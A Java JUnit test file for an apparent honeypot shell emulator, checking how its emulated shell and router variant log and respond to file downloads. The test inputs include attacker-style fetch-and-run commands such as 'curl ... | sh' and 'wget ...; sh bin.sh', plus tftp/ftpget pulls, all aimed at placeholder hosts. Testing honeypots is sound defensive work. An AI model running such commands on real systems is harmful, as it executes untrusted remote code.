package io.honeybee.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.capture.Captured;
import io.honeybee.fetch.Fetched;
import java.net.InetAddress;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** What the shell's tools do with a file that was really fetched. */
class FetchingTest {
  private final ShellFixture shell = fetching(new ShellFixture());

  private static ShellFixture fetching(ShellFixture shell) {
    Captured captured = new Captured("00", 12, Optional.of("captures/00"), Optional.empty());
    shell.fetcher =
        (url, agent) ->
            url.startsWith("http")
                ? new Fetched.Done(
                    InetAddress.ofLiteral("192.0.2.7"), "text/plain", "echo fetched\n", captured)
                : new Fetched.Refused("off");
    return shell;
  }

  @Test
  void wgetSavesWhatCameAndItRuns() throws Exception {
    String shown = shell.run("cd /tmp; wget http://a.test/bin.sh; echo $?; sh bin.sh");

    assertThat(shown)
        .contains("Connecting to a.test (a.test)|192.0.2.7|:80... connected.")
        .contains("'bin.sh' saved [12/12]")
        .endsWith("0\nfetched\n");
    assertThat(shell.downloads).containsExactly("http://a.test/bin.sh bin.sh");
    assertThat(shell.written).isEmpty();
  }

  @Test
  void curlPrintsOrSaves() throws Exception {
    assertThat(shell.run("curl -s http://a.test/x | sh")).isEqualTo("fetched\n");
    assertThat(shell.run("wget -qO- http://a.test/x | sh")).isEqualTo("fetched\n");
    assertThat(shell.run("curl -so /tmp/x http://a.test/x && cat /tmp/x"))
        .isEqualTo("echo fetched\n");
  }

  @Test
  void theRoutersWgetSavesWhatCameAndItRuns() throws Exception {
    ShellFixture router = fetching(ShellFixture.router());

    assertThat(router.run("cd /tmp; wget http://a.test:8080/bin.sh -O .x; sh .x"))
        .startsWith("Connecting to a.test:8080 (192.0.2.7:8080)\nsaving to '.x'\n")
        .endsWith("  0:00:00 ETA\n'.x' saved\nfetched\n");
    assertThat(router.run("wget -q -O - http://a.test/x | sh")).isEqualTo("fetched\n");
    assertThat(router.run("tftp -g -r x 192.0.2.1; ftpget 192.0.2.1 x y")).contains("timed out");
    assertThat(router.downloads).contains("tftp://192.0.2.1/x x", "ftp://192.0.2.1/y x").hasSize(4);
  }

  @Test
  void otherProtocolsAreOnlyToldOf() throws Exception {
    shell.run("tftp -g -r x 192.0.2.1; curl ftp://192.0.2.1/x");
    assertThat(shell.downloads).hasSize(2).allMatch(url -> !url.startsWith("http"));
    assertThat(shell.status).isNotZero();
  }
}
